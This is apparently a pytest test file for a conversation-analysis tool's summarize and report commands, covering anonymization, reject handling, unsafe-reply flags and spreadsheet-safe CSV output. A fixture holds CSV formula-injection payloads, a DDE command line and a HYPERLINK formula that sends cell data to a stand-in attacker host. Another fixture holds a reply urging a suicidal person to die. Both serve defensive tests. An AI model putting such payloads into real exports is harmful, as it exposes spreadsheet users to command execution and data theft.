"""`carelens summarize` and `carelens report` on conversation files and on analyze results."""

from __future__ import annotations

import csv
import json
from collections.abc import Callable
from pathlib import Path

import pandas as pd
import pytest
from typer.testing import Result

from carelens.cli._insights_tables import TABLES, _spreadsheet_safe
from carelens.errors import InputError
from carelens.insights import Insights, records_from
from carelens.insights.anonymize import local_key
from carelens.output import read_results
from carelens.privacy import Pseudonymizer

# The `invoke` fixture's type (tests/cli/conftest.py); not imported from there, because
# another tests folder has a conftest module too.
Invoke = Callable[..., Result]
DATA_THREAD = Path(__file__).resolve().parents[1] / "data" / "cli" / "thread.jsonl"


def test_summarize_a_conversation_file(invoke: Invoke, data: Path, tmp_path: Path) -> None:
    tables = tmp_path / "tables"
    result = invoke("summarize", data / "thread.jsonl", "--tables", tables)
    assert result.exit_code == 0, result.output
    assert "Communities" in result.stdout and "Helpers" in result.stdout
    assert "jon" in result.stdout and "thread" in result.stdout  # community from the file name
    assert "Strain signals" in result.stdout
    written = sorted(p.name for p in tables.iterdir())
    assert written == [
        "communities.csv",
        "helpers.csv",
        "monthly_communities.csv",
        "monthly_helpers.csv",
        "responses.csv",
        "strain.csv",
    ]
    with (tables / "responses.csv").open(encoding="utf-8") as fh:
        rows = list(csv.DictReader(fh))
    assert {r["helper"] for r in rows} >= {"jon"}
    assert all(r["month"] == "2024-03" for r in rows)


def test_summarize_pairs_rolls_up_per_named_helper(invoke: Invoke, tmp_path: Path) -> None:
    source = tmp_path / "pairs.csv"
    source.write_text(
        "seeker_id,response_id,seeker,response,speaker,timestamp\n"
        "s1,r1,I failed my exam again.,That sounds exhausting.,maya,2024-03-01T10:00:00Z\n"
        "s2,r2,My dog is sick.,I'm so sorry. How is he?,jon,2024-04-02T08:30:00Z\n"
        "s3,r3,I can't sleep.,What keeps you up?,maya,2024-04-05T22:00:00Z\n",
        encoding="utf-8",
    )
    tables = tmp_path / "tables"
    result = invoke("summarize", source, "--tables", tables)
    assert result.exit_code == 0, result.output
    with (tables / "responses.csv").open(encoding="utf-8") as fh:
        rows = list(csv.DictReader(fh))
    assert [(r["helper"], r["month"]) for r in rows] == [
        ("maya", "2024-03"),
        ("jon", "2024-04"),
        ("maya", "2024-04"),
    ]
    with (tables / "helpers.csv").open(encoding="utf-8") as fh:
        assert sorted(r["helper"] for r in csv.DictReader(fh)) == ["jon", "maya"]


def test_summarize_results_equals_summarize_input(
    invoke: Invoke, data: Path, tmp_path: Path
) -> None:
    out = tmp_path / "results.jsonl"
    assert invoke("analyze", data / "pairs.csv", "-o", out).exit_code == 0
    from_results = Insights.from_records(read_results(out), default_community="pairs")
    import carelens

    analysed = Insights.from_records(
        records_from(data / "pairs.csv", lambda: carelens.load()), default_community="pairs"
    )
    assert from_results.helpers().equals(analysed.helpers())
    result = invoke("summarize", out, "--community", "forum")
    assert result.exit_code == 0, result.output
    assert "forum" in result.stdout


@pytest.mark.parametrize("unsafe", ["left out", "null"])
def test_results_without_the_unsafe_check_are_said_to_lack_it(
    invoke: Invoke, data: Path, tmp_path: Path, unsafe: str
) -> None:
    # Records of this layout but for `unsafe` (an older carelens's: left out; an analysis
    # without the check: null): said to be unchecked, never counted as without unsafe
    # wording, in summarize and in the report.
    out = tmp_path / "results.jsonl"
    assert invoke("analyze", data / "pairs.csv", "-o", out).exit_code == 0
    records = [json.loads(line) for line in out.read_text(encoding="utf-8").splitlines()]
    for record in records:
        assert record["unsafe"] == []
        if unsafe == "null":
            record["unsafe"] = None
        else:
            del record["unsafe"]
    older = tmp_path / "older.jsonl"
    older.write_text("".join(json.dumps(r) + "\n" for r in records), encoding="utf-8")
    result = invoke("summarize", older, "--tables", tmp_path / "tables")
    assert result.exit_code == 0, result.output
    said = " ".join(result.output.split())
    assert (
        f"results of an older carelens: {len(records)} responses without the unsafe-wording "
        "check (left out of those figures, not counted as 0)"
    ) in said
    assert "unsafe wording (urging self-harm or giving method information) was not checked" in said
    helpers = pd.read_csv(tmp_path / "tables" / "helpers.csv")
    assert helpers["unsafe_replies"].isna().all()
    report = tmp_path / "report.html"
    assert invoke("report", older, "-o", report).exit_code == 0
    assert "unsafe replies: not checked (results of an older carelens)" in report.read_text(
        encoding="utf-8"
    )


def test_summarize_anonymized_hides_names(invoke: Invoke, data: Path, tmp_path: Path) -> None:
    tables = tmp_path / "t"
    result = invoke("summarize", data / "thread.jsonl", "--anonymize", "--tables", tables)
    assert result.exit_code == 0, result.output
    assert "jon" not in result.stdout
    text = (tables / "responses.csv").read_text(encoding="utf-8")
    assert "jon" not in text and "maya" not in text


def test_summarize_missing_input_is_one_clear_line(invoke: Invoke, tmp_path: Path) -> None:
    result = invoke("summarize", tmp_path / "nope.jsonl")
    assert result.exit_code == 1
    assert "no such file" in result.stderr


def _reject_lines(path: Path) -> list[dict[str, object]]:
    return [json.loads(line) for line in path.read_text(encoding="utf-8").splitlines()]


def test_summarize_lists_bad_records_and_goes_on(
    invoke: Invoke, data: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.chdir(tmp_path)  # without --tables the rejects go to ./carelens-rejects.jsonl
    result = invoke("summarize", data / "malformed.jsonl")
    assert result.exit_code == 0, result.output
    listed = tmp_path / "carelens-rejects.jsonl"
    assert "3 bad input records skipped, listed in carelens-rejects.jsonl" in result.stderr
    assert "None" not in result.stderr
    assert len(_reject_lines(listed)) == 3


def test_summarize_rejects_go_to_the_tables_folder_or_where_asked(
    invoke: Invoke, data: Path, tmp_path: Path
) -> None:
    tables = tmp_path / "tables"
    result = invoke("summarize", data / "malformed.jsonl", "--tables", tables)
    assert result.exit_code == 0, result.output
    assert f"listed in {tables / 'rejects.jsonl'}" in result.stderr.replace("\n", "")
    assert len(_reject_lines(tables / "rejects.jsonl")) == 3
    asked = tmp_path / "bad" / "records.jsonl"
    result = invoke("summarize", data / "malformed.jsonl", "--rejects", asked)
    assert result.exit_code == 0, result.output
    assert len(_reject_lines(asked)) == 3


def test_no_rejects_leave_no_empty_file(
    invoke: Invoke, data: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.chdir(tmp_path)
    html = tmp_path / "report.html"
    assert invoke("report", data / "thread.jsonl", "-o", html).exit_code == 0
    assert html.is_file() and not Path(f"{html}.rejects.jsonl").exists()
    tables = tmp_path / "tables"
    assert invoke("summarize", data / "thread.jsonl", "--tables", tables).exit_code == 0
    assert not (tables / "rejects.jsonl").exists()
    assert invoke("summarize", data / "thread.jsonl").exit_code == 0
    assert not (tmp_path / "carelens-rejects.jsonl").exists()
    # A file asked for by name is kept, empty, as `carelens analyze` keeps it.
    asked = tmp_path / "asked.jsonl"
    assert invoke("report", data / "thread.jsonl", "-o", html, "--rejects", asked).exit_code == 0
    assert asked.read_text(encoding="utf-8") == ""


def test_report_lists_bad_records_of_a_conversation_file(
    invoke: Invoke, data: Path, tmp_path: Path
) -> None:
    html = tmp_path / "report.html"
    result = invoke("report", data / "malformed.jsonl", "-o", html)
    assert result.exit_code == 0, result.output
    assert len(_reject_lines(Path(f"{html}.rejects.jsonl"))) == 3


@pytest.mark.parametrize("fmt", ["jsonl", "csv", "parquet"])
def test_report_from_results(invoke: Invoke, data: Path, tmp_path: Path, fmt: str) -> None:
    results = tmp_path / f"results.{fmt}"
    assert invoke("analyze", data / "thread.jsonl", "-o", results).exit_code == 0
    html = tmp_path / "report.html"
    result = invoke("report", results, "-o", html, "--title", "Peer group")
    assert result.exit_code == 0, result.output
    page = html.read_text(encoding="utf-8")
    assert page.startswith("<!DOCTYPE html>") or page.lower().startswith("<!doctype html>")
    assert "Peer group" in page and "jon" in page


def test_report_refuses_a_non_html_output(invoke: Invoke, data: Path, tmp_path: Path) -> None:
    result = invoke("report", data / "thread.jsonl", "-o", tmp_path / "r.pdf")
    assert result.exit_code == 2  # a usage error
    assert ".html" in result.stderr


def test_report_records_carry_texts(invoke: Invoke, data: Path, tmp_path: Path) -> None:
    out = tmp_path / "r.jsonl"
    assert invoke("analyze", data / "thread.jsonl", "-o", out, "--no-text").exit_code == 0
    records = [json.loads(line) for line in out.read_text(encoding="utf-8").splitlines()]
    assert all(r["response_text"] is None and r["seeker_text"] is None for r in records)


def _pseudonyms(tables: Path) -> set[str]:
    with (tables / "responses.csv").open(encoding="utf-8", newline="") as fh:
        return {row["helper"] for row in csv.DictReader(fh)}


def test_anonymize_uses_a_secret_key_kept_in_the_data_folder(
    invoke: Invoke, data: Path, tmp_path: Path, private_data_dir: Path
) -> None:
    first = invoke("summarize", data / "thread.jsonl", "--anonymize", "--tables", tmp_path / "a")
    assert first.exit_code == 0, first.output
    key_file = private_data_dir / "pseudonym.key"
    assert key_file.stat().st_mode & 0o777 == 0o600
    assert len(key_file.read_text().strip()) == 64
    assert "secret pseudonym key" in first.stderr
    second = invoke("summarize", data / "thread.jsonl", "--anonymize", "--tables", tmp_path / "b")
    assert second.exit_code == 0, second.output
    assert "secret pseudonym key" not in second.stderr  # made once, then reused
    names = _pseudonyms(tmp_path / "a")
    assert names == _pseudonyms(tmp_path / "b")  # stable from run to run
    public = Pseudonymizer(prefix="person")
    assert names and not names & {public.pseudonym(n) for n in ("ana", "jon", "maya")}


def test_anonymize_key_from_the_environment_wins(
    invoke: Invoke,
    data: Path,
    tmp_path: Path,
    private_data_dir: Path,
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    monkeypatch.setenv("CARELENS_ANONYMIZE_KEY", "team-secret")
    result = invoke("summarize", data / "thread.jsonl", "--anonymize", "--tables", tmp_path / "t")
    assert result.exit_code == 0, result.output
    assert not (private_data_dir / "pseudonym.key").exists()
    keyed = Pseudonymizer("team-secret", prefix="person")
    helpers = {keyed.pseudonym(n) for n in ("ana", "jon", "maya")}
    assert _pseudonyms(tmp_path / "t") <= helpers


def test_an_empty_key_file_is_a_clear_error(tmp_path: Path) -> None:
    (tmp_path / "pseudonym.key").write_text("\n")
    with pytest.raises(InputError, match="pseudonym key file is empty"):
        local_key(tmp_path)


def test_summarize_counts_what_a_person_should_read(invoke: Invoke, tmp_path: Path) -> None:
    source = tmp_path / "pairs.jsonl"
    seeker = "I want to kill myself. Nobody would notice."
    rows = [
        {"seeker_id": "s1", "response_id": "r1", "seeker": seeker, "response": "Just die then."},
        {"seeker_id": "s1", "response_id": "r2", "seeker": seeker, "response": "I'd notice."},
        {"seeker_id": "s2", "response_id": "r3", "seeker": "Bad day.", "response": "Oh no."},
    ]
    source.write_text("".join(json.dumps(r) + "\n" for r in rows), encoding="utf-8")
    tables = tmp_path / "tables"
    result = invoke("summarize", source, "--tables", tables)
    assert result.exit_code == 0, result.output
    assert "unsafe replies" in result.stdout
    said = "To read: 2 responses answer messages with wording about suicide or self-harm, 1 has"
    assert said in " ".join(result.stdout.split())
    assert "the report (carelens report) lists them" in result.stdout
    with (tables / "responses.csv").open(encoding="utf-8") as fh:
        unsafe = {r["response_id"]: r["unsafe_reply"] for r in csv.DictReader(fh)}
    assert unsafe == {"r1": "True", "r2": "False", "r3": "False"}
    with (tables / "helpers.csv").open(encoding="utf-8") as fh:
        assert sum(int(r["unsafe_replies"]) for r in csv.DictReader(fh)) == 1


def test_summarize_and_report_read_speakers_of_any_type(invoke: Invoke, tmp_path: Path) -> None:
    results = tmp_path / "results.jsonl"
    assert invoke("analyze", DATA_THREAD, "-o", results).exit_code == 0
    records = [json.loads(line) for line in results.read_text(encoding="utf-8").splitlines()]
    assert len(records) == 3
    for record, speaker in zip(records, (123, None, 4.5), strict=True):
        record["speaker"] = speaker
    results.write_text("".join(json.dumps(r) + "\n" for r in records), encoding="utf-8")
    tables = tmp_path / "tables"
    result = invoke("summarize", results, "--tables", tables)
    assert result.exit_code == 0, result.output
    with (tables / "responses.csv").open(encoding="utf-8") as fh:
        helpers = [r["helper"] for r in csv.DictReader(fh)]
    assert helpers == ["123", "(unknown)", "4.5"]
    html = tmp_path / "r.html"
    result = invoke("report", results, "-o", html)
    assert result.exit_code == 0, result.output


def test_strain_table_evidence_is_json(invoke: Invoke, tmp_path: Path) -> None:
    source = tmp_path / "pairs.jsonl"
    rows = [
        {
            "seeker_id": f"s{i}",
            "response_id": f"r{i}",
            "speaker": "kit",
            "seeker": "I can't stop shaking, I'm so scared and alone.",
            "response": "Honestly I'm exhausted and I can't keep doing this, sorry.",
        }
        for i in range(3)
    ]
    source.write_text("".join(json.dumps(r) + "\n" for r in rows), encoding="utf-8")
    tables = tmp_path / "tables"
    result = invoke("summarize", source, "--tables", tables)
    assert result.exit_code == 0, result.output
    with (tables / "strain.csv").open(encoding="utf-8") as fh:
        signals = list(csv.DictReader(fh))
    assert signals, "the fixture should raise a signal"
    for signal in signals:
        evidence = json.loads(signal["evidence"])
        assert isinstance(evidence, list) and all(isinstance(e, str) for e in evidence)
        positions = json.loads(signal["evidence_positions"])
        assert isinstance(positions, list) and all(isinstance(p, int) for p in positions)


def test_strain_table_evidence_tells_apart_responses_that_share_an_id(
    invoke: Invoke, tmp_path: Path
) -> None:
    """Threads whose message numbers restart: kit's replies are all "2"; strain.csv's
    ``evidence_positions`` say which ones, as the ``position`` column of responses.csv."""
    source = tmp_path / "threads.jsonl"
    turns = []
    for c in "ABC":
        turns.append({"id": "1", "conversation_id": c, "speaker": f"op{c}", "text": "I'm scared."})
        turns.append(
            {"id": "2", "conversation_id": c, "speaker": "kit", "reply_to": "1",
             "text": f"Honestly I'm exhausted and I can't keep doing this, sorry. ({c})"}
        )  # fmt: skip
    source.write_text("".join(json.dumps(t) + "\n" for t in turns), encoding="utf-8")
    tables = tmp_path / "tables"
    result = invoke("summarize", source, "--tables", tables)
    assert result.exit_code == 0, result.output
    with (tables / "strain.csv").open(encoding="utf-8") as fh:
        (signal,) = [s for s in csv.DictReader(fh) if s["signal"] == "personal_distress"]
    with (tables / "responses.csv").open(encoding="utf-8") as fh:
        responses = {int(r["position"]): r for r in csv.DictReader(fh)}
    assert json.loads(signal["evidence"]) == ["2", "2", "2"]
    positions = json.loads(signal["evidence_positions"])
    assert [responses[p]["conversation_id"] for p in positions] == ["A", "B", "C"]


def test_summarize_says_how_many_the_report_lists() -> None:
    from carelens.cli._insights_tables import to_read_line
    from carelens.insights.report.sections import MAX_TO_READ

    records = []
    for i in range(MAX_TO_READ + 2):
        record: dict[str, object] = {"response_id": f"r{i}", "speaker": "kit", "unsafe": []}
        record["seeker"] = {"needs_attention": True, "crisis_cues": []}
        records.append(record)
    line = to_read_line(Insights.from_records(records))
    assert line.startswith(f"To read: {MAX_TO_READ + 2} responses answer messages")
    assert f"lists the first {MAX_TO_READ} of these {MAX_TO_READ + 2} responses" in line
    one = to_read_line(Insights.from_records(records[:1]))
    assert one.startswith(
        "To read: 1 response answers a message with wording about suicide or self-harm, 0 have"
    )
    assert "lists them" in one
    assert "report" not in to_read_line(Insights.from_records([{"response_id": "x"}]))


@pytest.mark.parametrize(
    ("labels", "said"),
    [
        (["suicide"], "a message with wording about suicide or self-harm, 0 have"),
        (["possible_crisis"], "a message that may point to a crisis (a hint the learned flag"),
        (
            ["possible_crisis", "self_harm", "possible_crisis"],
            "messages with wording about suicide or self-harm, or a hint of it (2 of them only "
            "a hint, a possible crisis), 0 have",
        ),
    ],
)
def test_summarize_words_a_learned_cue_as_a_possible_crisis(labels: list[str], said: str) -> None:
    """A cue of the small learned flag alone is a hint, as the report words it, not
    "crisis cues" (wording about suicide or self-harm)."""
    from carelens.cli._insights_tables import to_read_line

    records = [
        {
            "response_id": f"r{i}",
            "speaker": "kit",
            "unsafe": [],
            "seeker": {
                "needs_attention": True,
                "crisis_cues": [{"start": 0, "end": 4, "label": label, "score": 1.0}],
            },
        }
        for i, label in enumerate(labels)
    ]
    assert said in to_read_line(Insights.from_records(records))


def test_summarize_lists_the_top_communities_like_the_top_helpers(
    invoke: Invoke, data: Path, tmp_path: Path
) -> None:
    """--top caps the community table too (3,000 communities were all printed)."""
    out = tmp_path / "results.jsonl"
    assert invoke("analyze", data / "pairs.csv", "-o", out).exit_code == 0
    records = [json.loads(line) for line in out.read_text(encoding="utf-8").splitlines()]
    assert len(records) >= 4
    for i, record in enumerate(records):
        record["community"] = f"community-{i:02d}"
    out.write_text("".join(json.dumps(r) + "\n" for r in records), encoding="utf-8")
    tables = tmp_path / "tables"
    result = invoke("summarize", out, "--top", "2", "--tables", tables)
    assert result.exit_code == 0, result.output
    listed = [
        f"community-{i:02d}" for i in range(len(records)) if f"community-{i:02d}" in result.output
    ]
    assert len(listed) == 2
    assert f"({len(records) - 2} more communities; see --tables)" in result.output
    with (tables / "communities.csv").open(encoding="utf-8") as fh:
        assert len(list(csv.DictReader(fh))) == len(records)


def test_the_default_community_is_one_with_the_records_that_read_alike(
    invoke: Invoke, data: Path, tmp_path: Path
) -> None:
    """Was: two communities that both read ``Zo\u00eb`` (a decomposed file name beside
    records of a composed one), and two ``anxiety`` with ``--community 'anxiety '``."""
    out = tmp_path / "results.jsonl"
    assert invoke("analyze", data / "pairs.csv", "-o", out).exit_code == 0
    records = [json.loads(line) for line in out.read_text(encoding="utf-8").splitlines()]
    assert len(records) >= 2

    def communities(community: str, *args: str) -> list[tuple[str, int]]:
        """The communities summarize finds when every other record is in ``community``."""
        for i, record in enumerate(records):
            record["community"] = community if i % 2 else None
        named = tmp_path / "Zoe\u0308.jsonl"  # decomposed, as macOS writes a name
        named.write_text("".join(json.dumps(r) + "\n" for r in records), encoding="utf-8")
        tables = tmp_path / f"tables-{len(args)}"
        result = invoke("summarize", named, *args, "--tables", tables)
        assert result.exit_code == 0, result.output
        with (tables / "communities.csv").open(encoding="utf-8") as fh:
            return [(r["community"], int(r["responses"])) for r in csv.DictReader(fh)]

    assert communities("Zo\u00eb") == [("Zo\u00eb", len(records))]
    assert communities("anxiety", "--community", "anxiety ") == [("anxiety", len(records))]


#: What a spreadsheet may take as the start of a formula (CSV or formula injection).
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def formula_pairs(path: Path) -> Path:
    """Pairs from untrusted users whose ids, names and communities begin like formulas."""
    rows = [
        {
            "seeker_id": f"-s{i}",
            "response_id": f"=r{i}",
            "speaker": speaker,
            "seeker_speaker": "=cmd|' /C calc'!A0",
            "community": "+forum",
            "timestamp": f"2024-0{i + 1}-01T10:00:00Z",
            "seeker": '=HYPERLINK("http://evil.example/?"&A1,"click me") I feel so alone.',
            "response": response,
        }
        for i, (speaker, response) in enumerate(
            [
                ("@maya", "@SUM(1+1) I'm so sorry. What happened?"),
                ("'quoted", "-5 days is long. I'm here for you."),
                ("@maya", "That sounds hard."),
            ]
        )
    ]
    path.write_text("".join(json.dumps(r) + "\n" for r in rows), encoding="utf-8")
    return path


def formula_cells(path: Path) -> list[str]:
    """The text cells of a CSV file that a spreadsheet would run (a number such as -0.5
    is a number, not a formula)."""

    def is_number(cell: str) -> bool:
        try:
            float(cell)
        except ValueError:
            return False
        return True

    with path.open(encoding="utf-8", newline="") as fh:
        cells = [cell for row in csv.reader(fh) for cell in row]
    return [c for c in cells if c.startswith(FORMULA_STARTS) and not is_number(c)]


def test_summarize_tables_start_no_formula(invoke: Invoke, tmp_path: Path) -> None:
    tables = tmp_path / "tables"
    result = invoke("summarize", formula_pairs(tmp_path / "pairs.jsonl"), "--tables", tables)
    assert result.exit_code == 0, result.output
    for name in sorted(p.name for p in tables.iterdir()):
        assert formula_cells(tables / name) == [], name
    with (tables / "responses.csv").open(encoding="utf-8", newline="") as fh:
        rows = list(csv.DictReader(fh))
    assert [(r["response_id"], r["helper"]) for r in rows] == [
        ("'=r0", "'@maya"),
        ("'=r1", "''quoted"),
        ("'=r2", "'@maya"),
    ]
    assert {(r["seeker_id"][:2], r["community"], r["position"]) for r in rows} == {
        ("'-", "'+forum", str(i)) for i in range(3)
    }
    # The names on screen are the data's, without the apostrophe of the CSV cells.
    assert "@maya" in result.stdout and "'@maya" not in result.stdout


def test_spreadsheet_safe_tables_keep_numbers_and_dates() -> None:
    frame = pd.DataFrame(
        {
            "helper": ["-kit", "=1+1", "ann", None],
            "slope": [-0.5, 1.0, None, -2.0],
            "count": pd.array([-3, None, 1, 2], dtype="Int64"),
            "mixed": ["@x", 4.5, True, None],
            "when": pd.to_datetime(["2024-03-01", None, "2024-04-01", None], utc=True),
        }
    )
    safe = _spreadsheet_safe(frame)
    assert list(safe["helper"].iloc[:3]) == ["'-kit", "'=1+1", "ann"]
    assert list(safe["mixed"].iloc[:3]) == ["'@x", 4.5, True]
    for column in ("slope", "count", "when"):
        assert safe[column].equals(frame[column]), column
    assert frame["helper"].iloc[0] == "-kit"  # the frame itself is left as it was
    text = safe.to_csv(index=False)
    assert "-0.5" in text and "-3" in text and "'-kit" in text


def test_summarize_and_report_read_csv_results_as_the_exact_formats(
    invoke: Invoke, tmp_path: Path
) -> None:
    source = formula_pairs(tmp_path / "pairs.jsonl")
    results = {fmt: tmp_path / fmt / f"results.{fmt}" for fmt in ("csv", "jsonl")}
    screens, reports = {}, {}
    for fmt, path in results.items():
        assert invoke("analyze", source, "-o", path, "-q").exit_code == 0
        tables = tmp_path / fmt / "tables"
        summary = invoke("summarize", path, "--tables", tables)
        assert summary.exit_code == 0, summary.output
        screens[fmt] = summary.stdout.replace(str(tables), "TABLES")
        html = tmp_path / fmt / "report.html"
        assert invoke("report", path, "-o", html).exit_code == 0
        reports[fmt] = html.read_text(encoding="utf-8").replace(path.name, "RESULTS")
    assert screens["csv"] == screens["jsonl"]
    assert "@maya" in screens["csv"] and "'@maya" not in screens["csv"]
    assert reports["csv"] == reports["jsonl"]
    for name in TABLES:
        written = [(tmp_path / fmt / "tables" / f"{name}.csv").read_bytes() for fmt in results]
        assert written[0] == written[1], name


def test_summarize_helper_shows_only_the_named_speakers(
    invoke: Invoke, data: Path, tmp_path: Path
) -> None:
    results = tmp_path / "all.jsonl"
    assert invoke("analyze", data / "thread.jsonl", "-o", results, "-q").exit_code == 0
    tables = tmp_path / "tables"
    # on a results file (every reply analysed) and on the conversation file itself
    for source in (results, data / "thread.jsonl"):
        result = invoke(
            "summarize", source, "--helper", "JON", "--helper", "a*", "--tables", tables
        )
        assert result.exit_code == 0, result.output
        helpers = pd.read_csv(tables / "helpers.csv")
        assert sorted(helpers["helper"]) == ["ana", "jon"]  # not maya, who opened the thread
        said = " ".join(result.stderr.split())
        assert "1 response by speakers not named by --helper JON --helper a* left out" in said
    nobody = invoke("summarize", results, "--helper", "vol-*")
    assert nobody.exit_code == 1  # nothing to show
    assert "no response is by a speaker that matches" in " ".join(nobody.stderr.split())


def test_summarize_tables_keep_their_columns_when_nothing_is_kept(
    invoke: Invoke, data: Path, tmp_path: Path
) -> None:
    # Were 1-byte files ("\n") for the monthly tables, which pandas cannot read, and two
    # columns for helpers.csv and communities.csv.
    results = tmp_path / "all.jsonl"
    assert invoke("analyze", data / "thread.jsonl", "-o", results, "-q").exit_code == 0
    full, empty = tmp_path / "full", tmp_path / "empty"
    assert invoke("summarize", results, "--tables", full).exit_code == 0
    result = invoke("summarize", results, "--helper", "nobody", "--tables", empty)
    assert result.exit_code == 1, result.output  # nothing to show, the tables still written
    for name in TABLES:
        kept = pd.read_csv(empty / f"{name}.csv")
        assert kept.empty and list(kept.columns) == list(pd.read_csv(full / f"{name}.csv").columns)


def test_summarize_no_text_results_have_no_question_counts(
    invoke: Invoke, data: Path, tmp_path: Path
) -> None:
    results = tmp_path / "no-text.jsonl"
    assert invoke("analyze", data / "thread.jsonl", "-o", results, "--no-text").exit_code == 0
    tables = tmp_path / "tables"
    assert invoke("summarize", results, "--tables", tables).exit_code == 0
    for name in ("helpers", "communities"):
        frame = pd.read_csv(tables / f"{name}.csv")
        assert frame["questions"].isna().all(), name  # unknown, not 0
        assert frame["reflections_per_question"].isna().all(), name


def test_report_helper_anonymized_hides_the_names_it_leaves_out(
    invoke: Invoke, tmp_path: Path
) -> None:
    # kim_b's only reply is left out; the helper's reply names kim_b.
    thread = tmp_path / "thread.jsonl"
    turns = [
        ("t1", "sam_r", None, "I moved here alone and I know no one."),
        ("t2", "vol-ama", "t1", "Like kim_b said, that sounds so lonely. What do you miss?"),
        ("t3", "kim_b", "t1", "I'm sorry sam_r, I moved last year too."),
    ]
    thread.write_text(
        "".join(
            json.dumps({"id": i, "speaker": who, "reply_to": to, "text": text}) + "\n"
            for i, who, to, text in turns
        ),
        encoding="utf-8",
    )
    out = tmp_path / "report.html"
    plain = invoke("report", thread, "-o", out, "--helper", "vol-*")
    assert plain.exit_code == 0, plain.output
    assert "kim_b" in out.read_text(encoding="utf-8")  # shown as written without --anonymize
    hidden = invoke("report", thread, "-o", out, "--helper", "vol-*", "--anonymize")
    assert hidden.exit_code == 0, hidden.output
    html = out.read_text(encoding="utf-8")
    assert "kim_b" not in html and "sam_r" not in html and "vol-ama" not in html


def test_anonymized_rejects_hold_no_personal_data(invoke: Invoke, tmp_path: Path) -> None:
    """A reply to an unknown parent is rejected, and its detail quotes the parent id: with
    --anonymize an e-mail address there is replaced in the rejects file too."""
    turns = [
        {"id": "t1", "speaker": "maya", "conversation_id": "c1", "text": "I feel so alone."},
        {"id": "t2", "speaker": "jon", "conversation_id": "c1", "reply_to": "t1",
         "text": "That sounds lonely. What has been hardest?"},
        {"id": "t3", "speaker": "jon", "conversation_id": "c1",
         "reply_to": "maya.r@example.com", "text": "I hear you."},
    ]  # fmt: skip
    source = tmp_path / "thread.jsonl"
    source.write_text("".join(json.dumps(t) + "\n" for t in turns), encoding="utf-8")
    for anonymize, leaked in ((False, True), (True, False)):
        tables = tmp_path / f"t{anonymize}"
        args = ["summarize", source, "--tables", tables] + (["--anonymize"] if anonymize else [])
        result = invoke(*args)
        assert result.exit_code == 0, result.output
        raw = (tables / "rejects.jsonl").read_text(encoding="utf-8")
        assert ("maya.r@example.com" in raw) is leaked, raw
